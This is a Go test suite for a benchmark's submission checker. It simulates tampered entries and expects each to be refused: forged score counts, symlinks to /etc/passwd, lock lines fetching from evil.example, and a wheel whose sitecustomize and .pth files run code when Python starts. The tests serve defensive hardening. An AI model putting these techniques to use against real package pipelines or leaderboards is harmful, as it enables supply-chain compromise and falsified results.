package cmd_test

import (
	"archive/zip"
	"bytes"
	"crypto/sha256"
	"fmt"
	"math/rand/v2"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/kernelboosting/bench/harness/bundle"
	"github.com/kernelboosting/bench/harness/commons"
	"github.com/kernelboosting/bench/harness/result"
	"github.com/kernelboosting/bench/internal/test/must"
	"github.com/kernelboosting/bench/internal/test/testenv"
)

// A stranger has a clone of a commons, whose branch honest has an honest entry of the method Nearer.
type stranger struct {
	process
	t *testing.T
}

func (s stranger) git(args ...string) string {
	s.t.Helper()
	c := exec.Command("git", append([]string{"-C", s.file("keep")}, args...)...)
	c.Env = append(os.Environ(), s.env...)
	out, err := c.CombinedOutput()
	if err != nil {
		s.t.Fatalf("git %s: %v\n%s", strings.Join(args, " "), err, out)
	}
	return strings.TrimSpace(string(out))
}

func newStranger(t *testing.T) stranger {
	s := stranger{newProcess(t), t}
	s.env = []string{"GIT_CONFIG_GLOBAL=" + s.write(t, "gitconfig", "[user]\nname = Eve\nemail = eve@example.com\n")}
	s.command(t, "commons", "init", "keep", "--datasets", "swiss,circles", "--splits", "2", "--least-splits",
		"1").ends(0)
	s.command(t, "methods", "new", "Nearer", "--lang", "sh").ends(0)
	s.command(t, "run", "--methods", "Nearer", "--datasets", "swiss,circles", "--splits", "2").ends(0)
	branch := strings.Fields(s.command(t, "submit", "Nearer", "--to", "keep").ends(0).printed.String())
	s.git("branch", "-q", "honest", branch[len(branch)-1])
	return s
}

// entry is the path of a file of the entry, which is checked out.
func (s stranger) entry(name string) string { return s.file("keep", "methods", "Nearer", name) }

func (s stranger) put(name, text string) {
	s.t.Helper()
	must.Do(s.t, os.MkdirAll(filepath.Dir(s.file("keep", name)), 0o755))
	must.Do(s.t, os.WriteFile(s.file("keep", name), []byte(text), 0o600))
}

// edit changes the text of a file of the entry.
func (s stranger) edit(name string, pairs ...string) {
	s.t.Helper()
	before := string(must.Get(os.ReadFile(s.entry(name)))(s.t))
	after := strings.NewReplacer(pairs...).Replace(before)
	if before == after {
		s.t.Fatalf("%s has nothing of %q", name, pairs)
	}
	must.Do(s.t, os.WriteFile(s.entry(name), []byte(after), 0o600))
}

// forge changes the reported results.
func (s stranger) forge(change func([]result.Run) []result.Run) {
	s.t.Helper()
	file := s.entry("results.bench")
	runs := change(must.Get(bundle.Read(must.Get(os.ReadFile(file))(s.t)))(s.t))
	var out bytes.Buffer
	must.Get(bundle.Write(&out, runs))(s.t)
	must.Do(s.t, os.WriteFile(file, out.Bytes(), 0o600))
}

// better raises the counts of a run by one row, if any row is wrong.
func better(r *result.Run) {
	up := func(p **int, by int) { *p = new(**p + by) }
	switch {
	case *r.Score.FN > 0:
		up(&r.Score.FN, -1)
		up(&r.Score.TP, 1)
	case *r.Score.FP > 0:
		up(&r.Score.FP, -1)
		up(&r.Score.TN, 1)
	default: // all rows are right
		return
	}
	up(&r.Score.Correct, 1)
	r.Score.AUC2 = nil // it would contradict the counts
}

func forgeAll(change func(*result.Run)) func(stranger) {
	return func(s stranger) {
		s.forge(func(runs []result.Run) []result.Run {
			for i := range runs {
				change(&runs[i])
			}
			return runs
		})
	}
}

type attack struct {
	name string
	do   func(stranger)
	says string
	bars bool // this version cannot be tried again
}

// attacks are what a stranger may push. Each is refused, and for a reason that names it.
func attacks() []attack {
	file := func(name, text string) func(stranger) { return func(s stranger) { s.put(name, text) } }
	path := func(name string) attack {
		return attack{"the path " + name, file("methods/Nearer/"+name, "x"), "each part of a path has", false}
	}
	out := []attack{
		{"one count", func(s stranger) {
			s.forge(func(runs []result.Run) []result.Run { better(&runs[0]); return runs })
		}, "split 1: rows whose class is right: reported", true},
		{"all counts", forgeAll(better), "rows whose class is right: reported", true},
		{"another split's counts", func(s stranger) {
			s.forge(func(runs []result.Run) []result.Run {
				runs[0].Score, runs[1].Score = runs[1].Score, runs[0].Score
				runs[0].ScoresHash, runs[1].ScoresHash = runs[1].ScoresHash, runs[0].ScoresHash
				return runs
			})
		}, "reported", true},
		{"another version's counts", func(s stranger) { s.edit("nearer.sh", "s + shift", "s - shift") },
			": method version was", false},
		{"another plugin's results", forgeAll(func(r *result.Run) { r.Method = "CART" }), "is of another method",
			false},
		{"exchanged data", forgeAll(func(r *result.Run) { r.Fingerprint = strings.Repeat("0", len(r.Fingerprint)) }),
			"data was 00000000", false},
		{"tampered keys", forgeAll(func(r *result.Run) { r.GridHash = strings.Repeat("0", len(r.GridHash)) }),
			"grid was 00000000", false},
		{"another protocol", forgeAll(func(r *result.Run) {
			r.ProtocolHash = strings.Repeat("0", len(r.ProtocolHash))
		}), "protocol was 00000000", false},
		{"a set left out", func(s stranger) {
			s.forge(func(runs []result.Run) []result.Run { return runs[:len(runs)/2] })
		}, "is missing; an entry has the first", false},
		{"a cell twice", func(s stranger) {
			s.forge(func(runs []result.Run) []result.Run { return append(runs, runs[0]) })
		}, "is there twice", false},
		{"a workflow", file(".github/workflows/mine.yml", "on: push"), "it may have files of one folder", false},
		{"another entry", file("methods/Other/x", "x"), "it may have files of one folder", false},
		{"settings", file("commons.toml", "level = 0.1"), "it may have files of one folder", false},
		{"a receipt", file("methods/Nearer/receipt.json", "{}"), "which only a check writes", false},
		{"a lock with an address", file("methods/Nearer/lock.txt", "numpy @ https://evil.example/numpy.whl"),
			"write NAME==VERSION", false},
		{"a lock with an index", file("methods/Nearer/lock.txt", "--index-url https://evil.example"),
			"write NAME==VERSION", false},
		{"a huge bundle", file("methods/Nearer/results.bench", strings.Repeat("x", 5<<20)),
			"results.bench has 5242880 bytes", false},
		{"a bundle that is none", file("methods/Nearer/results.bench", "x"), "results.bench: ", false},
		{"many files", func(s stranger) {
			for i := range 60 {
				s.put(fmt.Sprintf("methods/Nearer/f%d", i), "x")
			}
		}, "at most 50 may be there", false},
		{"a link", func(s stranger) { must.Do(s.t, os.Symlink("/etc/passwd", s.entry("link"))) }, "is a link", false},
		{"a plugin that is a link", func(s stranger) {
			must.Do(s.t, os.Remove(s.entry("nearer.sh")))
			must.Do(s.t, os.Symlink("/bin/sh", s.entry("nearer.sh")))
		}, "is a link", false},
		{"another repository", func(s stranger) {
			s.git("init", "-q", "methods/Nearer/sub")
			s.git("-C", "methods/Nearer/sub", "commit", "-q", "--allow-empty", "-m", "x")
		}, "is a link or another repository", false},
		{"a plugin elsewhere", func(s stranger) { s.edit("entry.toml", "nearer.sh", "../../check.sh") },
			"is no file of the entry", false},
		{"another name", func(s stranger) { s.edit("entry.toml", `"Nearer"`, `"CART"`) },
			"and its folder is Nearer", false},
		{"an unknown key", func(s stranger) { s.edit("entry.toml", "author", "run") }, `unknown key "run"`, false},
		{"a plugin of another name", func(s stranger) { s.edit("nearer.sh", `"name":"Nearer"`, `"name":"Nearest"`) },
			"the plugin calls its method Nearest", false},
		{"a plugin that asks for the network", func(s stranger) {
			s.edit("nearer.sh", `"version":"1"`, `"version":"1","network":true`)
		}, "asks for the network", false},
	}
	for _, name := range []string{"-rf", "a b", "..x", ".git2", "a\nb", "\x1b[31m", "é", strings.Repeat("x", 150)} {
		out = append(out, path(name))
	}
	return out
}

// forgeries raise drawn cells by one to three rows.
func forgeries(n int) (out []attack) {
	for i := range n {
		draws := rand.New(rand.NewPCG(uint64(i), 60))
		out = append(out, attack{fmt.Sprint("forgery ", i), func(s stranger) {
			s.forge(func(runs []result.Run) []result.Run {
				for _, cell := range draws.Perm(len(runs))[:1+draws.IntN(len(runs))] {
					for range 1 + draws.IntN(3) {
						better(&runs[cell])
					}
				}
				return runs
			})
		}, "reported", true})
	}
	return out
}

// TestAttacksOnACommons: what strangers push to get in with more than their method is worth is refused. Those attacks
// whose results are wrong bar the version.
func TestAttacksOnACommons(t *testing.T) {
	t.Parallel()
	withSandbox(t)
	s := newStranger(t)
	all := attacks()
	switch {
	case os.Getenv("BENCH_FIRE") != "":
		all = append(all, forgeries(100-len(all))...)
	case !testenv.Thorough(t): // ten or more
		kept := all[:0]
		for i := 0; i < len(all); i += 3 {
			kept = append(kept, all[i])
		}
		all = kept
	}
	for i, a := range all {
		branch := fmt.Sprint("attack", i)
		s.git("clean", "-f", "-f", "-d", "-q")
		s.git("checkout", "-q", "-f", "-b", branch, "honest")
		a.do(s)
		s.git("add", "-A", "--", ".")
		s.git("commit", "-q", "-m", "an entry", "--allow-empty")
		s.git("checkout", "-q", "-f", "main")
		out := s.file("out" + branch)
		c := s.command(t, "commons", "check", "keep", "--head", branch, "-o", out)
		if code := c.code(); code != 3 || !strings.Contains(c.said.String(), "bench: refused: ") ||
			!strings.Contains(c.said.String(), a.says) {
			t.Errorf("%s: exit %d, want 3 and %q\n%s", a.name, code, a.says, &c.said)
		}
		barred, _ := filepath.Glob(filepath.Join(out, "refused", "*.json"))
		entered, _ := filepath.Glob(filepath.Join(out, "methods", "*"))
		if len(barred) != map[bool]int{true: 1}[a.bars] || len(entered) > 0 {
			t.Errorf("%s: it leaves %q, %q", a.name, barred, entered)
		}
		if a.name == "one count" {
			s.barred(branch, out)
		}
	}
}

// barred commits a refusal, and tries the version again.
func (s stranger) barred(branch, out string) {
	s.t.Helper()
	c := exec.Command("sh", s.file("keep", "check.sh"), "--record", out)
	c.Env = append(os.Environ(), s.env...)
	if said, err := c.CombinedOutput(); err != nil {
		s.t.Fatalf("%v\n%s", err, said)
	}
	s.command(s.t, "commons", "check", "keep", "--head", branch).ends(3, "this version of Nearer was refused before")
	s.git("reset", "-q", "--hard", "HEAD~")
}

// unlucky is a method that says it is not deterministic. Its scores are drawn anew each time.
const unlucky = `describes() { echo '"name":"Unlucky","tasks":["binary"],"deterministic":false'; }
scores() { od -An -v -N$((4 * $1)) -td4 /dev/urandom | tr -s ' ' '\n' | sed '/^$/d;s/$/.5/'; }
`

// byHand pushes an entry without bench submit, which would refuse its plugin, and returns its branch.
func (s stranger) byHand(name, plugin string, codeOfRun int, change func(*result.Run)) string {
	s.t.Helper()
	s.write(s.t, "plugins/"+name+".sh", plugin)
	s.command(s.t, "run", "--methods", name, "--datasets", "swiss,circles", "--splits", "2").ends(codeOfRun)
	s.command(s.t, "export", name+".bench", "--methods", name).ends(0)
	s.git("checkout", "-q", "-f", "-b", "by-hand-"+name, "main")
	at := "methods/" + name + "/"
	s.put(at+"entry.toml", fmt.Sprintf("name = %q\nplugin = %q\n", name, name+".sh"))
	s.put(at+name+".sh", plugin)
	s.put(at+"lock.txt", "")
	runs := must.Get(bundle.Read(must.Get(os.ReadFile(s.file(name + ".bench")))(s.t)))(s.t)
	for i := range runs {
		change(&runs[i])
	}
	var out bytes.Buffer
	must.Get(bundle.Write(&out, runs))(s.t)
	s.put(at+"results.bench", out.String())
	s.git("add", "-A", "--", ".")
	s.git("commit", "-q", "-m", "an entry")
	s.git("checkout", "-q", "-f", "main")
	return "by-hand-" + name
}

// TestLuckOfACommons: if a method is not deterministic, its author may report the luckiest of many results. This gains
// nothing, since the commons computes every cell of such a method again and counts only its own results. A method that
// knows the labels of test rows is found by a canary.
func TestLuckOfACommons(t *testing.T) {
	t.Parallel()
	testenv.OnlyThorough(t)
	withSandbox(t)
	s := newStranger(t)
	ones := string(must.Get(os.ReadFile(filepath.Join("testdata", "process", "ones.sh")))(t))
	lucky := s.byHand("Unlucky", unlucky+ones, 0, func(r *result.Run) {
		for range r.Score.N - *r.Score.Correct {
			better(r)
		}
	})
	s.command(t, "commons", "check", "keep", "--head", lucky, "-o", s.file("lucky")).ends(0, "Unlucky enters")
	file := s.file("lucky", "methods", "Unlucky", "results.bench")
	for _, r := range must.Get(bundle.Read(must.Get(os.ReadFile(file))(t)))(t) {
		if share := float64(*r.Score.Correct) / float64(r.Score.N); share < 0.1 || share > 0.9 {
			t.Errorf("%s: %v of the rows are right", r.Name(), share)
		}
	}

	nearer := string(must.Get(os.ReadFile(s.file("plugins", "nearer.sh")))(t))
	knows := strings.NewReplacer(`"name":"Nearer"`, `"name":"Knows"`, "($1 - low[j]) ^ 2 - ($1 - high[j]) ^ 2",
		"$1 ^ 2", "s + shift", "(int(sqrt(s) / 0.5164 + 0.5) % 2 ? -1 : 1)").Replace(nearer)
	branch := s.byHand("Knows", knows, 0, func(*result.Run) {})
	s.command(t, "submit", "Knows", "--to", "keep").ends(3, "a commons would refuse it: ")
	s.command(t, "commons", "check", "keep", "--head", branch, "-o", s.file("found")).ends(3,
		"bench: refused: leak: Knows is right about test rows of circles")
	if barred, _ := filepath.Glob(s.file("found", "refused", "*.json")); len(barred) != 1 {
		t.Errorf("it leaves %q", barred)
	}
}

// TestPackagesOfAnEntry: a wheel that runs code wherever it can (when Python starts, in the place of pip, when it is
// imported) is installed, is imported by the plugin in the sandbox, and has written no file outside.
func TestPackagesOfAnEntry(t *testing.T) {
	t.Parallel()
	withSandbox(t)
	python, err := exec.LookPath("python3")
	if err != nil {
		t.Skip("it needs python3 with pip and venv")
	}
	version := strings.TrimSpace(string(must.Get(exec.Command(python, "-c",
		"import pip, venv, sys; print('%d.%d' % sys.version_info[:2])").Output())(t)))
	s := newStranger(t)
	s.env = append(s.env, "PIP_NO_INDEX=1", "PIP_FIND_LINKS="+s.file("wheels"), "BENCH_PYTHON="+python)
	s.newReleases(version)
	mark := s.file("mark")
	code := fmt.Sprintf("NAME = 'Wheel'\ntry:\n    open(%q, 'w')\nexcept OSError:\n    pass\n", mark)
	locked := s.wheel("evil", "1", map[string]string{"evil.py": code, "sitecustomize.py": code,
		"pip/__init__.py": code, "pip/__main__.py": code, "evil.pth": "import evil\n"})

	s.git("checkout", "-q", "-f", "-b", "wheel", "honest")
	s.edit("entry.toml", "nearer.sh", "nearer.py", `name = "Nearer"`, `name = "Nearer"`+"\npython = \""+version+"\"")
	s.put("methods/Nearer/nearer.py", `import json, sys, evil
for line in sys.stdin:
    print(json.dumps({"id": json.loads(line)["id"], "protocol": [1, 1], "name": evil.NAME, "version": "1",
        "tasks": ["binary"]}), flush=True)
`)
	for _, c := range []struct{ branch, lock, says string }{
		{"wheel", locked, "the plugin calls its method Wheel"},
		{"exchanged", "evil==1 --hash=sha256:" + strings.Repeat("ab", 32), "refused: lock.txt: pip: "},
	} {
		s.git("checkout", "-q", "-B", c.branch)
		s.put("methods/Nearer/lock.txt", c.lock)
		s.git("add", "-A", "--", ".")
		s.git("commit", "-q", "-m", "an entry")
		s.command(t, "commons", "check", "keep", "--head", c.branch).ends(3, c.says)
	}
	if _, err := os.Stat(mark); err == nil {
		t.Error("a package has run outside of the sandbox")
	}
}

// wheel makes a wheel where pip looks for it, and returns its line of a lock.
func (s stranger) wheel(name, version string, files map[string]string) string {
	s.t.Helper()
	var wheel bytes.Buffer
	packed := zip.NewWriter(&wheel)
	info, record := name+"-"+version+".dist-info/", ""
	for file := range files {
		record += file + ",,\n"
	}
	files[info+"METADATA"] = "Metadata-Version: 2.1\nName: " + name + "\nVersion: " + version + "\n"
	files[info+"WHEEL"] = "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
	files[info+"RECORD"] = record
	for file, text := range files {
		must.Get(must.Get(packed.Create(file))(s.t).Write([]byte(text)))(s.t)
	}
	must.Do(s.t, packed.Close())
	s.write(s.t, "wheels/"+name+"-"+version+"-py3-none-any.whl", wheel.String())
	return fmt.Sprintf("%s==%s --hash=sha256:%x\n", name, version, sha256.Sum256(wheel.Bytes()))
}

// newReleases: an entry whose package has a newer release is listed, and is computed with it. Its counts need not be
// those of before, which stay in the history. Where pip cannot be asked this is said.
func (s stranger) newReleases(python string) {
	s.t.Helper()
	s.git("checkout", "-q", "-f", "-b", "releases", "honest")
	s.edit("nearer.sh", `"version":"1"`, `"version":"'$SHIFT'","files":["nearer.sh"]`, "s + shift",
		`s + shift + ENVIRON["SHIFT"]`)
	s.edit("entry.toml", "nearer.sh", "nearer.py", `name = "Nearer"`, `name = "Nearer"`+"\npython = \""+python+"\"")
	s.put("methods/Nearer/nearer.py",
		"import os, tiny\nos.environ['SHIFT'] = tiny.SHIFT\nos.execv('/bin/sh', ['sh', 'nearer.sh'])\n")
	s.put("methods/Nearer/lock.txt", "Tiny==1.0+local --hash=sha256:"+strings.Repeat("ab", 32))
	s.git("add", "-A", "--", ".")
	s.git("commit", "-q", "-m", "an entry")
	must.Do(s.t, os.Mkdir(s.file("wheels"), 0o700))
	c := s.command(s.t, "commons", "rerun", "keep").ends(0, "Nearer: pip could not be asked for newer releases")
	if !strings.Contains(c.printed.String(), "never computed again") {
		s.t.Errorf("it prints\n%s", &c.printed)
	}
	mean := map[string]float64{}
	for _, release := range []struct{ version, shift, why string }{
		{"1.9", "0", "never computed again; tiny 1.0+local → 1.9"}, {"1.10", "1e9", "tiny 1.9 → 1.10"},
	} {
		lock := s.wheel("tiny", release.version, map[string]string{"tiny.py": "SHIFT = '" + release.shift + "'\n"})
		c = s.command(s.t, "commons", "rerun", "keep", "--budget", "1h", "--format", "csv").ends(0)
		if !strings.Contains(c.printed.String(), "Nearer,"+release.why+`,"computed with the newer packages: `) {
			s.t.Fatalf("it prints\n%s%s", &c.printed, &c.said)
		}
		is := strings.ReplaceAll(string(must.Get(os.ReadFile(s.entry("lock.txt")))(s.t)), " \\\n   ", "")
		if is != lock {
			s.t.Errorf("the lock is %s, want %s", is, lock)
		}
		s.run(s.t, "verify", "--receipt", s.entry("receipt.json"))
		s.git("add", "-A", "--", ".")
		s.git("commit", "-q", "-m", release.version)
		mean[release.version] = commons.Mean(must.Get(bundle.Read(
			must.Get(os.ReadFile(s.entry("results.bench")))(s.t)))(s.t))
	}
	if mean["1.9"] <= mean["1.10"] {
		s.t.Errorf("the means are %v: with the shift of 1.10 every row has one class", mean)
	}
	if c = s.run(s.t, "commons", "rerun", "keep"); strings.Contains(c.printed.String(), "Nearer") {
		s.t.Errorf("it prints\n%s", &c.printed)
	}
}
